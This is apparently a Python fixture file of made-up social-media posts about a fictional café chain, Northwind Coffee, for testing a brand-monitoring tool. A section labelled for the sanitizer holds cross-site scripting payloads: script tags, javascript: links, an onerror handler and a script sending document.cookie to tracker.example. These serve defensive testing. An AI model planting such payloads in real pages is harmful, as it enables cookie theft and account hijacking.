"""Thread replies: advocates defending, the former barista, comparisons, neutral chatter, Traders noise."""

from __future__ import annotations

from tools.demo_content import E

THEME = "store"

ENTRIES = [
    # advocates pushing back in threads
    E(
        "reddit",
        "Re: Is it just me or has Northwind Coffee gone downhill?",
        "Respectfully, no. I'm at Northwind Coffee {shop} most mornings and it's been fine. Mornings are "
        "busy everywhere. The staff are great and the coffee is better than anything else on this side of "
        "the river.",
        "defend",
        who="hannah",
        var=1,
    ),
    E(
        "reddit",
        "Re: Northwind Coffee oat milk surcharge",
        'Oat milk costs them about 3x as much as dairy. Bluebird Coffee "doesn\'t charge" because their '
        "base price is 60c higher. Northwind Coffee is still cheaper overall for an oat latte, I checked.",
        "defend",
        who="cal",
    ),
    E(
        "bluesky",
        "",
        "people dunking on Northwind Coffee for a 10 min wait at 8am on a Monday... "
        "it's a busy café, not a vending machine. the baristas are doing their best",
        "defend",
        who="ro",
    ),
    E(
        "reddit",
        "Re: Northwind app outage this morning?",
        "It was back up by 9:15 for me. Not defending the outage, but they posted an update on Mastodon "
        "within 20 minutes, which is more than most chains do.",
        "defend",
        who="devon",
        key="outage-defend",
    ),
    E(
        "mastodon",
        "",
        'Every local café thread: "Northwind Coffee is a soulless chain". It\'s 14 shops, '
        "all in this region, they roast here, they pay above minimum. Let's keep some perspective.",
        "defend",
        who="lou",
    ),
    E(
        "reddit",
        "Re: PSA: Northwind Coffee raised prices again",
        "Green coffee prices nearly doubled this year. Every roaster raised prices. Northwind Coffee's "
        "drip is still under Harbor Beans' large. Not a conspiracy.",
        "defend",
        who="cal",
    ),
    E(
        "youtube",
        "",
        "Comments here are so negative lol. Northwind Coffee has been my go-to for five "
        "years, they've never messed up my order once. Great video!",
        "defend",
        who="hannah",
    ),
    E(
        "bluesky",
        "",
        "counterpoint: Northwind Coffee is the only place in town that does a proper "
        "cortado and the staff know my dog's name",
        "defend",
        who="ro",
    ),
    E(
        "reddit",
        "Re: Northwind Rewards points just vanished?",
        "Same thing happened to me last month, points came back after 24h. Log out and back in. "
        "Definitely annoying though, they should show a message.",
        "defend",
        who="devon",
    ),
    # the former barista
    E(
        "reddit",
        "Former Northwind Coffee barista here, AMA-ish",
        "I used to work at Northwind Coffee (Riverside and Elm St) for two years, left in June. Happy to "
        "answer questions. Short version: most staff genuinely care, the shops are understaffed on "
        "purpose to hit labour targets, and the mobile order system was never designed for the volume it "
        "gets now. Be kind to your barista.",
        "neutral",
        who="jules",
    ),
    E(
        "reddit",
        "Re: Northwind Coffee order stuck on preparing",
        'Former barista here. "Preparing" orders that never reach the printer are a known problem at '
        "Northwind Coffee, we used to check the tablet manually every 15 min. If it happens, show the "
        "barista the order number, they can make it from the app screen.",
        "neutral",
        who="jules",
    ),
    E(
        "mastodon",
        "",
        "I used to work at Northwind Coffee. The oat milk surcharge goes straight to the "
        "bottom line, not to the baristas. Just saying. #NorthwindCoffee",
        "mild",
        who="jules",
    ),
    E(
        "bluesky",
        "",
        "ex Northwind Coffee barista: the cold brew is made fresh every 24h and "
        "honestly it's the best thing on the menu. skip the syrups.",
        "neutral",
        who="jules",
    ),
    E(
        "reddit",
        "Re: Is Northwind Coffee hiring?",
        "I used to work at Northwind Coffee. Pay was $1-2 over the other chains, you get free drinks and "
        "a pound of beans a week. Scheduling was chaotic though, shifts posted three days ahead. "
        "Your mileage may vary by manager.",
        "neutral",
        who="jules",
    ),
    # comparisons
    E(
        "reddit",
        "Northwind Coffee vs Bluebird Coffee vs Harbor Beans: I tried all three for a week",
        "Same order everywhere (oat flat white, medium), same time (8am). Northwind Coffee: best taste, "
        "slowest, $6.10. Bluebird Coffee: fastest, too milky, $6.40. Harbor Beans: cheapest, burnt, $5.20. "
        "I'll stick with Northwind Coffee on weekends and Harbor Beans for commute days.",
        "neutral",
        who="sanjay",
    ),
    E(
        "bluesky",
        "",
        "switched from Northwind Coffee to Bluebird Coffee because Bluebird's app "
        "actually works. coffee's worse though. tradeoffs",
        "mild",
        th="app",
    ),
    E(
        "mastodon",
        "",
        "Harbor Beans opened next to the Northwind Coffee on Cedar Ave. Let the cold "
        "brew wars begin. #Lakeport",
        "neutral",
        who="frank",
    ),
    E(
        "reddit",
        "Harbor Beans or Northwind Coffee for a bag of beans?",
        "Want to buy a bag for my home espresso machine. Northwind Coffee Harbor Blend or Harbor Beans "
        "House Espresso? Medium roast person.",
        "question",
        th="question",
        var=1,
    ),
    E(
        "youtube",
        "",
        "Blind tasted Northwind Coffee vs Bluebird Coffee house espresso with my "
        "roommates. 4 out of 5 picked Northwind. 🏆",
        "praise",
        th="praise",
    ),
    E(
        "yelp",
        "",
        "It's fine. Northwind Coffee is a step above the big national chains, a step below "
        "the indie places downtown. Good if you're in a hurry and the app is working.",
        "neutral",
        rating=3,
        var=1,
    ),
    # neutral chatter
    E(
        "mastodon",
        "",
        "Northwind Coffee Market Square has a new mural on the side wall, painted by "
        "students from the arts high school. Looks great. #Lakeport",
        "neutral",
        who="frank",
        var=1,
    ),
    E(
        "bluesky",
        "",
        'overheard at Northwind Coffee: "I don\'t drink coffee, I drink lattes"',
        "neutral",
        who="kat",
    ),
    E(
        "reddit",
        "Northwind Coffee opening a 15th location?",
        "Saw permits on the old bank building at Fulton & 9th with Northwind Coffee Roasters on them. "
        "Anyone know more?",
        "neutral",
        who="frank",
    ),
    E(
        "hackernews",
        "",
        "Tangent, but the Northwind app is a good example of why order-ahead is a "
        "distributed systems problem disguised as a menu. Two clocks (shop, app), three queues (POS, "
        "barista, pickup), and nobody owns the edge cases.",
        "neutral",
        who="devon",
    ),
    E(
        "youtube",
        "",
        "Northwind Coffee Roasters posting a roasting video at 5am is peak coffee content. Subscribed.",
        "neutral",
        var=1,
    ),
    E(
        "mastodon",
        "",
        "Walked past Northwind Coffee Lakeshore Dr and there's a line of 20 people "
        "for the new seasonal drink. In the rain. Coffee people are built different.",
        "neutral",
        who="mo",
    ),
    # hostile markup for the sanitizer
    E(
        "reddit",
        "Northwind Coffee promo code thread",
        "<p>Anyone have a working Northwind Coffee promo code? This one is <b>free drinks forever</b>: "
        '<a href="javascript:alert(2)">click to redeem</a></p><script>alert(1)</script>'
        "<p>(it isn't, please don't click random links)</p>",
        "neutral",
        key="hostile-1",
    ),
    E(
        "bluesky",
        "",
        "<p>Northwind Coffee giveaway!!! Reply with your Northwind Rewards number to win "
        '<img src="https://tracker.example/pixel.gif" onerror="steal()"> a year of coffee</p>',
        "neutral",
        key="hostile-2",
    ),
    E(
        "foodblog",
        "Sponsored: the best lattes near Market Square",
        '<p>Our pick this week is <a href="https://northwindcoffee.example/menu">Northwind Coffee</a> '
        "Market Square.</p><script>document.location='https://tracker.example/?c='+document.cookie</script>"
        '<p><a href="javascript:alert(2)" onclick="steal()">Claim your coupon</a></p>',
        "neutral",
        key="hostile-3",
    ),
    # Northwind Traders only: the brand matcher drops these (intended)
    E(
        "hackernews",
        "",
        "Every SQL tutorial I learned from used the Northwind Traders sample database. "
        "Still have the Orders and Order Details tables burned into my memory.",
        "neutral",
        key="traders-1",
    ),
    E(
        "reddit",
        "Northwind Traders database for practising joins?",
        "Is the Northwind Traders sample DB still the best dataset for practising SQL joins, or is "
        "there something more modern?",
        "neutral",
        key="traders-2",
    ),
    E(
        "galerts",
        "Northwind Traders announces new warehouse in Ohio - Harborline Business Journal",
        "Northwind Traders, the specialty foods importer, said it will open a 120,000 sq ft distribution "
        "centre to serve the Midwest.",
        "news",
        key="traders-3",
    ),
    E(
        "mastodon",
        "",
        "Teaching my students Access with the Northwind Traders template in 2024 feels "
        "like a time capsule. #edutech",
        "neutral",
        key="traders-4",
    ),
]
